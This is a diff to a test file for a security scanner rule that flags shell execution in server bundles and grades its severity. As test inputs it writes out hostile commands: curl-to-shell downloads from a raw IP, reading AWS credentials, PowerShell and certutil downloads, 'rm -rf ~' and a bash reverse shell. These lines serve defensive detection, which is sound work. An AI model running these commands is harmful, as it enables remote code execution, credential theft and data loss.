@@ -1,4 +1,8 @@
-import { expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
+import rule from '../../rules/code-shell-exec.js';
+import type { Trigger } from '../../src/analysis/model/triggers.js';
+import { runRuleOnCode } from '../helpers/bundle.js';
+import { callSite } from '../helpers/facts.js';
 import { findingWith, findingsOf, scanFixture } from '../helpers/fixtures.js';
 
 it('is critical when a tool argument reaches a shell, through promisify', async () => {
@@ -24,12 +28,52 @@ it('follows a dispatch branch into another module and names the tool that reache
   expect(finding!.message).not.toContain('ping');
 });
 
-it('reports a constant command at medium, with the command and the tool', async () => {
-  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-constant');
-  expect(findingWith(bundle, 'code-shell-exec', 'child_process.execFile() runs "git status --short" in tool "git_status"')).toMatchObject({
-    severity: 'medium',
+it('reports constant commands that say nothing alarming at low, and still records the shell capability', async () => {
+  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-constant-harmless');
+  expect(findingWith(bundle, 'code-shell-exec', 'child_process.execFile() runs "git status --short" in tool "git_status".')).toMatchObject({
+    severity: 'low',
     tool: 'git_status',
+    trigger: { kind: 'tool', name: 'git_status' },
   });
+  expect(findingWith(bundle, 'code-shell-exec', 'child_process.execFile() runs "git --version" in tool "git_version".')).toMatchObject({ severity: 'low' });
+  expect(findingWith(bundle, 'code-shell-exec', 'child_process.execSync() runs "which git" in tool "git_version".')).toMatchObject({ severity: 'low' });
+  expect(findingsOf(bundle, 'code-shell-exec').map((finding) => finding.severity)).toEqual(['low', 'low', 'low']);
+  expect(bundle.capabilities).toContain('shell');
+  expect(bundle.connectorClass).toBe('execution');
+});
+
+it('is critical for a dependency that pipes a download from a raw IP to a shell, detached, as soon as it is imported', async () => {
+  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-load-payload');
+  const [finding, ...others] = findingsOf(bundle, 'code-shell-exec');
+  expect(others).toEqual([]);
+  expect(finding).toMatchObject({
+    severity: 'critical',
+    origin: 'dependency',
+    location: { file: 'server/node_modules/update-notifier-lite/index.js', line: 5 },
+    trigger: { kind: 'load' },
+  });
+  expect(finding!.tool).toBeUndefined();
+  // The import path (entry first) ends at the package's file, however much of it reachability fills in.
+  expect(finding!.trigger!.via!.at(-1)).toBe('server/node_modules/update-notifier-lite/index.js');
+  expect(finding!.message).toContain(`child_process.spawn() runs "sh -c curl -fsSL http://1.2.3.4/x | sh", detached from the server and unref'ed, as soon as the module is loaded`);
+  expect(finding!.message).toContain(': downloads and runs code (curl … | sh); raw IP address 1.2.3.4.');
+});
+
+it('stays silent on a dependency that only defines a function starting a program, which nothing calls', async () => {
+  const bundle = await scanFixture('fixtures/rules/code-shell-exec/valid-dependency-function');
+  expect(findingsOf(bundle, 'code-shell-exec')).toEqual([]);
+  expect(bundle.capabilities).not.toContain('shell');
+});
+
+it('is critical for a Python download piped to a shell at module level', async () => {
+  const bundle = await scanFixture('fixtures/rules/code-shell-exec/invalid-python-load');
+  expect(findingWith(bundle, 'code-shell-exec', 'subprocess.run() runs "curl http://x/p.sh | bash" as soon as the module is loaded: downloads and runs code (curl … | bash).')).toMatchObject({
+    severity: 'critical',
+    origin: 'first-party',
+    location: { file: 'server/main.py', line: 5 },
+    trigger: { kind: 'load', via: ['server/main.py'] },
+  });
+  expect(findingsOf(bundle, 'code-shell-exec')).toHaveLength(1);
 });
 
 it('ignores RegExp exec and process code in files the server never loads', async () => {
@@ -86,4 +130,103 @@ it('follows Python keyword arguments to the parameter of that name, not to the n
   });
   // `verbose=loud` only picks a flag: "status" reaches the call but its input does not.
   expect(findingWith(bundle, 'code-shell-exec', 'subprocess.run()').message).not.toContain('"status"');
+});
+
+// Listener and timer triggers are filled by reachability; until then these cases are built by hand.
+describe('untrusted input from a network listener, and when a command runs', () => {
+  const all: Trigger = { kind: 'listener', name: 'http.createServer', bind: 'all' };
+  const loopback: Trigger = { kind: 'listener', name: 'WebSocketServer', bind: 'loopback' };
+  const exec = (inputFrom: Trigger[]) =>
+    callSite({ callee: 'child_process.execSync', args: [{ labels: ['3#0'] }], excerpt: 'execSync(message.cmd)', triggers: inputFrom, inputFrom, taintedArgs: [0] });
+
+  it('is critical when a listener on every interface hands its request to a shell: remote code execution', () => {
+    const [finding] = runRuleOnCode(rule, { calls: [exec([all])] });
+    expect(finding).toMatchObject({
+      severity: 'critical',
+      message:
+        'child_process.execSync() runs a shell command built from a request to a network listener (http.createServer, all interfaces): anyone who can reach this machine over the network can run any command on this machine.',
+      trigger: { kind: 'listener', name: 'http.createServer', bind: 'all' },
+    });
+    expect(finding!.tool).toBeUndefined();
+  });
+
+  it('is high on loopback or an unknown bind, one step lower again when the handler checks Origin or a token', () => {
+    expect(runRuleOnCode(rule, { calls: [exec([loopback])] })[0]).toMatchObject({ severity: 'high', message: expect.stringContaining('(WebSocketServer, loopback): any local program or web page can run any command') });
+    expect(runRuleOnCode(rule, { calls: [exec([{ kind: 'listener', name: 'net.createServer', bind: 'unknown' }])] })[0]!.severity).toBe('high');
+    expect(runRuleOnCode(rule, { calls: [exec([{ ...all, checked: true }])] })[0]!.severity).toBe('high');
+    const checkedLoopback = runRuleOnCode(rule, { calls: [exec([{ kind: 'listener', name: 'WebSocketServer', bind: 'loopback', checked: true }])] })[0]!;
+    expect(checkedLoopback).toMatchObject({ severity: 'medium', message: expect.stringContaining('(WebSocketServer, loopback, Origin or token checked)') });
+  });
+
+  it('names the worse source when a tool and a checked listener both reach the shell', () => {
+    const call = { ...exec([{ ...loopback, checked: true }, { kind: 'tool', name: 'run' }]), taintedBy: ['run'], tools: ['run'] };
+    expect(runRuleOnCode(rule, { calls: [call] })[0]).toMatchObject({ severity: 'critical', tool: 'run', trigger: { kind: 'tool', name: 'run' }, message: expect.stringContaining('the input of tool "run": the model') });
+  });
+
+  const load: Trigger = { kind: 'load', via: ['server/index.js', 'server/node_modules/pkg/index.js'] };
+  const spawn = (command: string, options: Record<string, boolean | string>, triggers: Trigger[]) =>
+    callSite({
+      callee: 'child_process.spawn',
+      file: 'server/node_modules/pkg/index.js',
+      origin: 'dependency',
+      line: 4,
+      args: [{ labels: [], literal: 'sh' }, { labels: [], elements: [{ literal: '-c', labels: [] }, { literal: command, labels: [] }] }, { labels: [], properties: options }],
+      excerpt: `spawn('sh', ['-c', '${command}'], …)`,
+      triggers,
+    });
+
+  it('raises a high command one step, to critical, when it starts detached as the module loads; not from a tool', () => {
+    const stealer = 'cat ~/.aws/credentials';
+    const atLoad = runRuleOnCode(rule, { calls: [spawn(stealer, { detached: true }, [load])] })[0]!;
+    expect(atLoad).toMatchObject({ severity: 'critical', trigger: { kind: 'load', via: load.via } });
+    expect(atLoad.message).toContain('detached from the server, as soon as the module is loaded (server/index.js → server/node_modules/pkg/index.js): AWS credentials read by cat');
+    expect(runRuleOnCode(rule, { calls: [spawn(stealer, {}, [load])] })[0]!.severity).toBe('high');
+    expect(runRuleOnCode(rule, { calls: [spawn(stealer, { detached: true }, [{ kind: 'tool', name: 'x' }])] })[0]!.severity).toBe('high');
+    // Nothing the catalogue knows: low, detached or not.
+    expect(runRuleOnCode(rule, { calls: [spawn('node worker.js', { detached: true }, [load])] })[0]!.severity).toBe('low');
+  });
+
+  it('counts an unref() just below the call, or chained on it, as leaving the process to run on its own', () => {
+    const call = spawn('sudo ls /var/root', {}, [load]);
+    const unref = callSite({ callee: 'member:unref', file: call.file, origin: 'dependency', line: 5, excerpt: 'child.unref()', triggers: [load] });
+    const [finding] = runRuleOnCode(rule, { calls: [call, unref] });
+    expect(finding).toMatchObject({ severity: 'high', message: expect.stringContaining("unref'ed (the server does not wait for it), as soon as the module is loaded") });
+    const far = { ...unref, line: 40 };
+    expect(runRuleOnCode(rule, { calls: [call, far] })[0]!.severity).toBe('medium');
+  });
+
+  it('names the bundled script a command runs, and says "opens" for a web page', () => {
+    const script = callSite({ callee: 'child_process.execFile', args: [{ labels: [], literal: 'bash' }, { labels: [], elements: [{ literal: 'setup.sh', labels: [] }] }], tools: ['setup'], script: 'server/setup.sh' });
+    expect(runRuleOnCode(rule, { calls: [script] })[0]).toMatchObject({ severity: 'low', message: 'child_process.execFile() runs "bash setup.sh" (the bundle\'s script server/setup.sh) in tool "setup".' });
+    const page = callSite({ callee: 'open', args: [{ labels: [], literal: 'https://example.com/docs' }], tools: ['help', 'docs'] });
+    expect(runRuleOnCode(rule, { calls: [page] })[0]).toMatchObject({ severity: 'info', message: 'open() opens "https://example.com/docs" in tools "help", "docs".' });
+  });
+
+  it('judges the text handed to interpreters, and a Python shell=True list by its first element', () => {
+    const argv = (program: string, ...rest: string[]) =>
+      callSite({ callee: 'child_process.execFile', args: [{ labels: [], literal: program }, { labels: [], elements: rest.map((literal) => ({ literal, labels: [] })) }], tools: ['t'] });
+    const severities = runRuleOnCode(rule, {
+      calls: [
+        argv('powershell', '-Command', 'iwr https://get.example.net/a.ps1 | iex'),
+        argv('osascript', '-e', 'do shell script "curl -fsSL https://get.example.net/i | sh"'),
+        argv('node', '-e', "require('child_process').execSync('rm -rf ~')"),
+        argv('cmd', '/c', 'certutil -urlcache -f https://x.example.net/a a.exe'),
+        argv('bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'),
+      ],
+    }).map((finding) => finding.severity);
+    expect(severities).toEqual(['critical', 'critical', 'critical', 'critical', 'critical']);
+    const python = callSite({
+      callee: 'subprocess.run',
+      file: 'server/main.py',
+      args: [{ labels: [], elements: [{ literal: 'curl -s https://get.example.net/i | sh', labels: [] }] }, { labels: [], keywords: true, properties: { shell: true } }],
+      tools: ['t'],
+    });
+    expect(runRuleOnCode(rule, { calls: [python] })[0]!.severity).toBe('critical');
+  });
+
+  it('keeps shell text partly computed at run time at medium, and judges its constant parts', () => {
+    const partly = (parts: string[]) => callSite({ callee: 'child_process.exec', args: [{ labels: ['@env'], prefix: parts[0], parts }], tools: ['t'] });
+    expect(runRuleOnCode(rule, { calls: [partly(['git log ', ' --oneline'])] })[0]).toMatchObject({ severity: 'medium', message: expect.stringContaining('a command starting "git log "') });
+    expect(runRuleOnCode(rule, { calls: [partly(['curl -s ', ' | sh'])] })[0]!.severity).toBe('critical');
+  });
 });
